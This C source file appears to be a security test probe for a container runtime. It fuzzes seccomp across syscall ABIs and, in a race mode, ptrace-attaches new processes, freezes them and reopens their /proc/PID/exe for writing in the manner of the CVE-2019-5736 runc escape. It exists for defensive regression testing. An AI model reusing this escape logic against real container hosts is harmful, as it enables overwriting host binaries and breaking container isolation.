// sec_probe: the attacker's tools for tests/integration/security.sh, one static binary bound
// read-only into a container (it needs nothing from the image).
//
//   sec_probe syscalls           stdin: "ABI NR" lines (ABI: 64, 32 = i386 through int 0x80,
//                                x32); calls each with junk arguments and prints
//                                "ABI NR ERRNO" (0: it returned >= 0)
//   sec_probe call64 NR A0 [A1 A2]   one native call with these arguments; prints its errno
//   sec_probe race SECONDS REPORT STOPFILE ALLOWED_EXE...
//                                watches /proc for new processes for SECONDS (or until STOPFILE
//                                exists) and attacks each:
//                                ptrace-attaches it, takes an O_PATH handle on /proc/PID/exe and
//                                tries to reopen it for writing (then and on every later round,
//                                as CVE-2019-5736 does once the binary stops running), opens its
//                                fds. Legitimate targets (the container's own binaries, named by
//                                ALLOWED_EXE, their pipes and /dev/null) are not reported;
//                                anything else is appended to REPORT, one line per finding.
//   sec_probe fds                prints "FD -> LINK" for each of its own open fds
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const long kJunk = (long)0xffffffffdead0000UL;

#if defined(__x86_64__)
// An i386 system call from a 64-bit process: the kernel takes int 0x80 through the 32-bit table
// and seccomp sees AUDIT_ARCH_I386, as for a linux/386 image.
static long call32(long nr) {
  long ret;
  long junk = 0xdead0000;
  // Five arguments (ebp, the sixth, is the frame pointer here); r8-r11 may be clobbered.
  __asm__ volatile("int $0x80"
                   : "=a"(ret)
                   : "a"(nr), "b"(junk), "c"(junk), "d"(junk), "S"(junk), "D"(junk)
                   : "memory", "r8", "r9", "r10", "r11");
  return ret;
}
#endif

static int probe_syscalls(void) {
  char abi[8];
  long nr;
  // Junk arguments: a call that got through the filter fails in the kernel with EFAULT, EINVAL or
  // EBADF, not with the filter's EPERM or ENOSYS.
  while (scanf("%7s %ld", abi, &nr) == 2) {
    long r;
    int err = 0;
    if (strcmp(abi, "64") == 0 || strcmp(abi, "x32") == 0) {
      long n = strcmp(abi, "x32") == 0 ? (nr | 0x40000000L) : nr;
      errno = 0;
      r = syscall(n, kJunk, kJunk, kJunk, kJunk, kJunk, kJunk);
      err = r < 0 ? errno : 0;
#if defined(__x86_64__)
    } else if (strcmp(abi, "32") == 0) {
      r = call32(nr);
      err = (r < 0 && r > -4096) ? (int)-r : 0;
#endif
    } else {
      fprintf(stderr, "unknown abi %s\n", abi);
      return 2;
    }
    printf("%s %ld %d\n", abi, nr, err);
    fflush(stdout);
  }
  return 0;
}

static int call64(int argc, char** argv) {
  long a[3] = {0, 0, 0};
  for (int i = 0; i < 3 && i + 3 < argc; ++i) a[i] = strtol(argv[i + 3], NULL, 0);
  errno = 0;
  long r = syscall(strtol(argv[2], NULL, 0), a[0], a[1], a[2], 0, 0, 0);
  printf("%d\n", r < 0 ? errno : 0);
  return 0;
}

static int print_fds(void) {
  DIR* d = opendir("/proc/self/fd");
  if (!d) return 1;
  struct dirent* e;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.') continue;
    if (atoi(e->d_name) == dirfd(d)) continue;
    char path[300], link[512];
    snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
    ssize_t n = readlink(path, link, sizeof link - 1);
    link[n < 0 ? 0 : n] = '\0';
    printf("%s -> %s\n", e->d_name, link);
  }
  closedir(d);
  return 0;
}

// --- race ---------------------------------------------------------------------------------------

#define MAX_SEEN 65536
#define MAX_HANDLES 256
#define MAX_ALLOWED 16

static char seen[MAX_SEEN];
static int handles[MAX_HANDLES];
static char handle_names[MAX_HANDLES][600];
static int n_handles;
static struct stat allowed[MAX_ALLOWED];
static int n_allowed;
static FILE* report;
static long findings;

static void finding(const char* fmt, ...) __attribute__((format(printf, 1, 2)));
static void finding(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  vfprintf(report, fmt, ap);
  va_end(ap);
  fputc('\n', report);
  fflush(report);
  ++findings;
}

static int is_allowed_exe(const struct stat* st) {
  for (int i = 0; i < n_allowed; ++i)
    if (allowed[i].st_dev == st->st_dev && allowed[i].st_ino == st->st_ino) return 1;
  return 0;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void readlink_into(const char* path, char* out, size_t size) {
  ssize_t n = readlink(path, out, size - 1);
  out[n < 0 ? 0 : n] = '\0';
}

// Writing through a handle on a binary dabba ran: the CVE-2019-5736 step. A harmless append of
// nothing would prove little; the test compares the binary's checksum afterwards as well.
static void try_write_handles(void) {
  for (int i = 0; i < n_handles; ++i) {
    if (handles[i] < 0) continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", handles[i]);
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0) continue;
    if (write(fd, "#sec_probe", 10) > 0) finding("exe-write %s", handle_names[i]);
    else finding("exe-open-for-write %s", handle_names[i]);
    close(fd);
    close(handles[i]);
    handles[i] = -1;
  }
}

static void attack_fds(int pid) {
  char dir[64];
  snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
  DIR* d = opendir(dir);
  if (!d) return;
  struct dirent* e;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.') continue;
    char path[400], link[512];
    snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
    readlink_into(path, link, sizeof link);
    if (strncmp(link, "pipe:", 5) == 0 || strcmp(link, "/dev/null") == 0 || link[0] == '\0')
      continue;
    // The container's own pty is its own business too.
    if (strncmp(link, "/dev/pts/", 9) == 0 || strcmp(link, "/dev/console") == 0) continue;
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    finding("fd pid=%d fd=%s -> %s%s", pid, e->d_name, link, fd >= 0 ? " (opened)" : "");
    if (fd >= 0) close(fd);
  }
  closedir(d);
}

// The CapEff line of /proc/PID/status (world-readable), 0 when unreadable.
static unsigned long long cap_eff(int pid) {
  char path[64], buf[4096];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 0;
  buf[n] = '\0';
  const char* c = strstr(buf, "CapEff:");
  return c ? strtoull(c + 7, NULL, 16) : 0;
}

static unsigned long long own_caps;

// Widens the window: a process dabba places in the container first holds every capability of
// the user namespace (nothing of ours may touch it), then drops to the container's and execs. Its
// CapEff is world-readable: the moment it is down to ours, SIGSTOP (container root may signal it)
// freezes it for attack(). Bounded: 50 ms.
static void freeze_when_reachable(int pid) {
  double until = now() + 0.05;
  while (now() < until) {
    unsigned long long caps = cap_eff(pid);
    if (caps == 0) return;  // gone (or no capabilities at all: nothing to wait for)
    if ((caps & ~own_caps) == 0) break;
  }
  kill(pid, SIGSTOP);
}

static void attack(int pid) {
  char path[64], link[512];
  freeze_when_reachable(pid);
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  // The first thing, the cheapest: a handle on its binary while it is dabba's.
  int h = open(path, O_PATH | O_CLOEXEC);
  if (h >= 0) {
    struct stat st;
    if (fstat(h, &st) == 0 && is_allowed_exe(&st)) {
      close(h);
    } else if (n_handles < MAX_HANDLES) {
      readlink_into(path, link, sizeof link);
      finding("exe-handle pid=%d -> %s", pid, link);
      handles[n_handles] = h;
      snprintf(handle_names[n_handles], sizeof handle_names[0], "pid=%d %s", pid, link);
      ++n_handles;
    } else {
      close(h);
    }
  }
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    // Attached: fine for the container's own processes, an escape for anything dabba runs. Held
    // in a ptrace-stop it can neither exec nor exit while we look at what it is (a seized tracee
    // also detaches only from such a stop).
    int st = 0;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
        !WIFEXITED(st) && !WIFSIGNALED(st)) {
      struct stat exe;
      if (stat(path, &exe) != 0 || !is_allowed_exe(&exe)) {
        readlink_into(path, link, sizeof link);
        finding("ptrace-attached pid=%d exe=%s", pid, link);
      }
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  attack_fds(pid);
  kill(pid, SIGCONT);
}

static int race(int argc, char** argv) {
  double seconds = atof(argv[2]);
  report = fopen(argv[3], "a");
  if (!report) {
    perror(argv[3]);
    return 1;
  }
  const char* stop = argv[4];
  for (int i = 5; i < argc && n_allowed < MAX_ALLOWED; ++i)
    if (stat(argv[i], &allowed[n_allowed]) == 0) ++n_allowed;
  int self = getpid();
  own_caps = cap_eff(self);
  double end = now() + seconds;
  long rounds = 0, attacked = 0;
  int next = self + 1;  // pids in a pid namespace are handed out in order: spin on the next ones
  while (now() < end) {
    if (rounds % 64 == 0 && access(stop, F_OK) == 0) break;
    for (int pid = next; pid < next + 4 && pid < MAX_SEEN; ++pid) {
      if (seen[pid] || pid == self) continue;
      char dir[32];
      snprintf(dir, sizeof dir, "/proc/%d", pid);
      if (access(dir, F_OK) != 0) continue;
      seen[pid] = 1;
      ++attacked;
      attack(pid);
    }
    // Now and then the whole list: a pid the spin missed, and where the counter went.
    if (rounds % 256 == 0) {
      DIR* d = opendir("/proc");
      if (!d) return 1;
      struct dirent* e;
      while ((e = readdir(d)) != NULL) {
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == self || pid >= MAX_SEEN) continue;
        if (pid >= next) next = pid + 1;
        if (seen[pid]) continue;
        seen[pid] = 1;
        ++attacked;
        attack(pid);
      }
      closedir(d);
    }
    while (next < MAX_SEEN && seen[next]) ++next;
    try_write_handles();
    ++rounds;
  }
  fprintf(stderr, "sec_probe race: %ld rounds, %ld processes attacked, %ld findings\n", rounds,
          attacked, findings);
  printf("%ld\n", attacked);
  fclose(report);
  return 0;
}

int main(int argc, char** argv) {
  if (argc >= 2 && strcmp(argv[1], "syscalls") == 0) return probe_syscalls();
  if (argc >= 3 && strcmp(argv[1], "call64") == 0) return call64(argc, argv);
  if (argc >= 5 && strcmp(argv[1], "race") == 0) return race(argc, argv);
  if (argc >= 2 && strcmp(argv[1], "fds") == 0) return print_fds();
  fprintf(stderr, "usage: sec_probe syscalls | call64 NR [ARGS] | race SECONDS REPORT STOP EXE... | fds\n");
  return 2;
}
